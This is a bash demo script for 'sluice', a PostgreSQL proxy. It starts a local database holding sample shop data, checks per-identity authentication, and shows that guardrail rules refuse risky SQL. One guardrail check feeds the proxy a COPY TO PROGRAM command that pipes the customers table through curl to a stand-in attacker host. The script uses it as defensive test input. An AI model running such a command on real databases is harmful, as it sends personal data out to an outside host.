#!/usr/bin/env bash
# demo.sh: `make demo`. Starts a throwaway PostgreSQL 15 with the sample shop, puts sluice in
# front of it, and walks through what sluice does, one section (one function) at a time.
#
#   scripts/demo.sh          start (or restart) the demo and run every section
#   scripts/demo.sh stop     stop sluice and the demo PostgreSQL
#
# Everything lives in ./demo-run/ (PostgreSQL in demo-run/pg, sluice's log in
# demo-run/sluice.log, the config it runs with in demo-run/sluice.yaml). sluice and PostgreSQL
# keep running after the script ends so you can try the printed psql lines yourself.
# Ports: PostgreSQL 5433 and sluice 7432/7480 unless taken (then the next free ones; override
# with DEMO_PG_PORT, DEMO_PORT, DEMO_ADMIN_PORT). Secrets are the documented demo ones of
# examples/demo.yaml. Exit status 0 when every check passed, 1 otherwise.
#
# To add a section (guardrails, masking, audit, approvals...): write a section_* function and
# list it in SECTIONS below.
set -euo pipefail

ROOT=$(cd "$(dirname "$0")/.." && pwd)
RUN=$ROOT/demo-run
SLUICE=${SLUICE_BIN:-$ROOT/build/sluice}
PGBIN=/usr/lib/postgresql/15/bin
export PATH=$PGBIN:$PATH

# Documented demo secrets (examples/demo.yaml holds their SCRAM verifiers).
APP_PASSWORD=app-demo-password # upstream role app, handed to sluice via SHOP_DB_PASSWORD
ALICE_PASSWORD=alice-demo-password
ETL_TOKEN=etl-demo-token
COPILOT_TOKEN=copilot-demo-token

SECTIONS=(
  section_connect_identities
  section_auth_refused
  section_guardrails
  section_not_yet
  section_try_it
)

FAILED=0

# ---------------------------------------------------------------------------------------------
# Output helpers

if [ -t 1 ]; then B=$'\e[1m' G=$'\e[32m' R=$'\e[31m' D=$'\e[2m' N=$'\e[0m'; else B='' G='' R='' D='' N=''; fi
title() { printf '\n%s== %s%s\n' "$B" "$*" "$N"; }
say() { printf '%s\n' "$*"; }
ok() { printf '%s  ok: %s%s\n' "$G" "$*" "$N"; }
bad() { printf '%s  FAILED: %s%s\n' "$R" "$*" "$N"; FAILED=1; }
die() { printf '%sdemo: %s%s\n' "$R" "$*" "$N" >&2; exit 1; }

# ---------------------------------------------------------------------------------------------
# Ports and processes

port_free() { ! ss -ltnH "sport = :$1" 2>/dev/null | grep -q .; }
pick_port() { local p=$1; while ! port_free "$p"; do p=$((p + 1)); done; echo "$p"; }

# Connection string through sluice for identity $1 with secret $2.
conninfo() { echo "host=127.0.0.1 port=$SLUICE_PORT dbname=shop user=$1 password=$2"; }

# psql through sluice: identity, secret, SQL. Prints the command, then its output.
run_psql() {
  local who=$1 secret=$2 sql=$3
  printf '%s$ psql "%s" -c "%s"%s\n' "$D" "$(conninfo "$who" "$secret")" "$sql" "$N"
  psql -X -P pager=off "$(conninfo "$who" "$secret")" -c "$sql"
}

sluice_pid() { [ -f "$RUN/sluice.pid" ] && cat "$RUN/sluice.pid"; }

sluice_stop() {
  local pid
  pid=$(sluice_pid) || return 0
  if kill -0 "$pid" 2>/dev/null; then
    kill -TERM "$pid" 2>/dev/null || true
    for _ in $(seq 1 50); do kill -0 "$pid" 2>/dev/null || break; sleep 0.1; done
    if kill -0 "$pid" 2>/dev/null; then kill -KILL "$pid" 2>/dev/null || true; fi
  fi
  rm -f "$RUN/sluice.pid"
}

cmd_stop() {
  sluice_stop
  "$ROOT/scripts/pg-cluster.sh" stop "$RUN/pg"
  say "demo stopped (data kept in $RUN; delete it for a fresh start)"
}

# ---------------------------------------------------------------------------------------------
# Setup: PostgreSQL with the shop, then sluice in front of it

setup_postgres() {
  title "PostgreSQL 15 with the sample shop"
  mkdir -p "$RUN"
  # Reuse the port of a demo cluster that is still running; otherwise pick one.
  if "$ROOT/scripts/pg-cluster.sh" status "$RUN/pg"; then
    PG_PORT=$(sed -n 4p "$RUN/pg/data/postmaster.pid")
  else
    PG_PORT=${DEMO_PG_PORT:-$(pick_port 5433)}
  fi
  PGAPP_PASSWORD=$APP_PASSWORD "$ROOT/scripts/pg-cluster.sh" start "$RUN/pg" "$PG_PORT"
  "$ROOT/scripts/pg-cluster.sh" psql "$RUN/pg" "$PG_PORT" -d postgres -qAt -c \
    "SELECT 1 FROM pg_database WHERE datname = 'shop'" | grep -q 1 ||
    "$ROOT/scripts/pg-cluster.sh" psql "$RUN/pg" "$PG_PORT" -d postgres -q -c \
      "CREATE DATABASE shop OWNER app"
  PGPASSWORD=$APP_PASSWORD psql -X -q -v ON_ERROR_STOP=1 \
    "host=127.0.0.1 port=$PG_PORT dbname=shop user=app" -f "$ROOT/examples/shop.sql" \
    2>&1 | grep -v 'NOTICE' || true
  local counts
  counts=$(PGPASSWORD=$APP_PASSWORD psql -X -qAt "host=127.0.0.1 port=$PG_PORT dbname=shop user=app" \
    -c "SELECT (SELECT count(*) FROM customers) || ' customers, ' || (SELECT count(*) FROM orders) || ' orders'")
  say "PostgreSQL on 127.0.0.1:$PG_PORT (data in demo-run/pg), database shop loaded: $counts"
}

setup_sluice() {
  title "sluice in front of it"
  [ -x "$SLUICE" ] || die "$SLUICE not found: run make first"
  sluice_stop
  SLUICE_PORT=${DEMO_PORT:-$(pick_port 7432)}
  ADMIN_PORT=${DEMO_ADMIN_PORT:-$(pick_port 7480)}
  [ "$ADMIN_PORT" = "$SLUICE_PORT" ] && ADMIN_PORT=$(pick_port $((ADMIN_PORT + 1)))
  sed -e "s/127\.0\.0\.1:7432/127.0.0.1:$SLUICE_PORT/" \
    -e "s/127\.0\.0\.1:7480/127.0.0.1:$ADMIN_PORT/" \
    -e "s/^\(    port: \)5433$/\1$PG_PORT/" \
    "$ROOT/examples/demo.yaml" >"$RUN/sluice.yaml"
  export SHOP_DB_PASSWORD=$APP_PASSWORD
  "$SLUICE" check -c "$RUN/sluice.yaml" || die "sluice check rejected $RUN/sluice.yaml"
  : >"$RUN/sluice.log"
  nohup "$SLUICE" serve -c "$RUN/sluice.yaml" >>"$RUN/sluice.log" 2>&1 </dev/null &
  echo $! >"$RUN/sluice.pid"
  # Ready when alice can run a statement (the listener alone says little).
  local i
  for i in $(seq 1 100); do
    kill -0 "$(sluice_pid)" 2>/dev/null || { tail -n 20 "$RUN/sluice.log" >&2; die "sluice exited"; }
    psql -X -qAt "$(conninfo alice@corp.com "$ALICE_PASSWORD") connect_timeout=2" -c "SELECT 1" \
      >/dev/null 2>&1 && break
    [ "$i" -eq 100 ] && { tail -n 20 "$RUN/sluice.log" >&2; die "sluice did not accept connections in 10 s"; }
    sleep 0.1
  done
  say "sluice (pid $(sluice_pid)) on 127.0.0.1:$SLUICE_PORT, admin on 127.0.0.1:$ADMIN_PORT"
  say "config demo-run/sluice.yaml, log demo-run/sluice.log"
}

# ---------------------------------------------------------------------------------------------
# Sections

section_connect_identities() {
  title "One database, three identities"
  say "Clients put the target in dbname and their identity in user; the password carries"
  say "their secret. Upstream, sluice logs in as role app with the vaulted password."
  say
  say "${B}alice@corp.com${N} (human, group engineers, password):"
  if run_psql alice@corp.com "$ALICE_PASSWORD" \
    "SELECT id, name, email, phone, card_number, ssn FROM customers ORDER BY id LIMIT 5"; then
    ok "alice connected"
  else bad "alice could not connect"; fi
  say
  say "${B}etl${N} (service, API token):"
  if run_psql etl "$ETL_TOKEN" \
    "SELECT status, count(*), sum(amount) FROM orders GROUP BY status ORDER BY status"; then
    ok "etl connected"
  else bad "etl could not connect"; fi
  say
  say "${B}copilot${N} (AI agent, group ai, API token):"
  if run_psql copilot "$COPILOT_TOKEN" \
    "SELECT c.name, count(*) AS orders, sum(o.amount) AS spent FROM orders o JOIN customers c ON c.id = o.customer_id GROUP BY c.name ORDER BY spent DESC LIMIT 3"; then
    ok "copilot connected"
  else bad "copilot could not connect"; fi
  say
  say "Upstream, every one of them is role app (clients never see its password):"
  run_psql copilot "$COPILOT_TOKEN" "SELECT current_user, current_database()" ||
    bad "copilot could not connect"
}

section_auth_refused() {
  title "Bad secrets are refused"
  say "A wrong secret and an unknown identity get the same answer (28P01), so the error"
  say "does not tell which identities exist."
  local who out msgs=()
  for who in alice@corp.com nobody@corp.com; do
    printf '%s$ psql "%s" -c "SELECT 1"%s\n' "$D" "$(conninfo "$who" wrong-password)" "$N"
    if out=$(psql -X -qAt "$(conninfo "$who" wrong-password)" -c "SELECT 1" 2>&1); then
      bad "$who with a wrong secret was let in"
    else
      say "$out"
      ok "refused $who"
      msgs+=("$(sed -e "s/$who//g" -e 's/.*FATAL: *//' <<<"$out")")
    fi
  done
  if [ "${#msgs[@]}" -eq 2 ]; then
    if [ "${msgs[0]}" = "${msgs[1]}" ]; then ok "same message for both"
    else bad "the two refusals differ: an unknown identity can be told apart"; fi
  fi
}

# Expect a statement to be refused with 42501 naming the rule.
expect_blocked() {
  local who=$1 secret=$2 sql=$3 rule=$4 out
  printf '%s$ psql "%s" -c "%s"%s\n' "$D" "$(conninfo "$who" "$secret")" "$sql" "$N"
  if out=$(psql -X -v VERBOSITY=default "$(conninfo "$who" "$secret")" -c "$sql" 2>&1); then
    say "$out"
    bad "$who: \"$sql\" was not refused"
  else
    say "$out"
    if grep -q "blocked by rule \"$rule\"" <<<"$out"; then ok "refused by $rule"
    else bad "refused, but not by rule $rule"; fi
  fi
}

section_guardrails() {
  title "Guardrails and policy"
  say "Every statement is parsed with PostgreSQL's own parser before it reaches the database."
  say "Risky ones are refused by built-in guardrails, with no configuration:"
  expect_blocked alice@corp.com "$ALICE_PASSWORD" "DELETE FROM orders" delete_without_where
  expect_blocked alice@corp.com "$ALICE_PASSWORD" "UPDATE customers SET email = 'x' WHERE 1 = 1" \
    update_without_where
  expect_blocked alice@corp.com "$ALICE_PASSWORD" "DROP TABLE customers" drop
  expect_blocked etl "$ETL_TOKEN" "COPY (SELECT * FROM customers) TO PROGRAM 'curl -d @- evil.example'" \
    copy_program
  say
  say "Rules in the config add to them: here AI agents may only read."
  expect_blocked copilot "$COPILOT_TOKEN" "UPDATE orders SET status = 'refunded' WHERE id = 7" \
    agents-read-only
  say
  say "The same update by a person is fine:"
  if run_psql alice@corp.com "$ALICE_PASSWORD" "UPDATE orders SET status = 'shipped' WHERE id = 7"; then
    ok "alice may update one order"
  else bad "alice's update was refused"; fi
  say
  say "sluice explain shows what sluice sees and decides, without a database (for CI):"
  printf '%s$ sluice explain -c demo-run/sluice.yaml --as copilot "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d"%s\n' "$D" "$N"
  "$SLUICE" explain -c "$RUN/sluice.yaml" --as copilot \
    "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d" || true
}

section_not_yet() {
  title "Not in this build yet"
  say "Masking of personal data (note the raw emails, cards and SSNs above), the audit log"
  say "and approvals are not implemented yet; this demo grows a section for each as it lands."
}

section_try_it() {
  title "Try it yourself"
  say "  psql \"$(conninfo alice@corp.com "$ALICE_PASSWORD")\""
  say "  psql \"$(conninfo etl "$ETL_TOKEN")\""
  say "  psql \"$(conninfo copilot "$COPILOT_TOKEN")\""
  say "PostgreSQL directly (bypassing sluice):"
  say "  psql \"host=127.0.0.1 port=$PG_PORT dbname=shop user=app password=$APP_PASSWORD\""
  say "Log: tail -f demo-run/sluice.log     Stop: scripts/demo.sh stop"
}

# ---------------------------------------------------------------------------------------------

main() {
  case "${1:-start}" in
    stop) cmd_stop; return ;;
    start) ;;
    *) die "usage: scripts/demo.sh [start|stop]" ;;
  esac
  cd "$ROOT"
  setup_postgres
  setup_sluice
  local s
  for s in "${SECTIONS[@]}"; do "$s"; done
  if [ "$FAILED" -ne 0 ]; then
    printf '\n%sdemo: some checks failed; see demo-run/sluice.log%s\n' "$R" "$N"
    return 1
  fi
  printf '\n%sdemo: all checks passed%s\n' "$G" "$N"
}

main "$@"
